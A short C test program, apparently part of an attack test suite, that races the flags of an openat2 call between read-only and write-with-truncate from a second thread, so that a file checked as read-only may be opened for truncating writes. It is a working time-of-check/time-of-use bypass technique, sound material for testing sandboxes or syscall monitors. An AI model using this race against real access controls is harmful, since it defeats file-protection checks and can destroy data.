/* openat2 keeps its flags in memory: they flip between harmless and truncating. */
#include "attack.h"
#include <linux/openat2.h>

static volatile struct open_how how;

static void *flip(void *arg)
{
	for (;;) {
		how.flags = O_RDONLY;
		how.flags = O_WRONLY | O_TRUNC;
	}
	return arg;
}

int main(void)
{
	attack_begin();
	(void)thread(flip, NULL);
	while (racing()) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, in("O", "out.txt"), &how, sizeof how);

		if (fd >= 0) {
			(void)!write(fd, "raced", 5);
			close(fd);
		}
	}
	return 0;
}
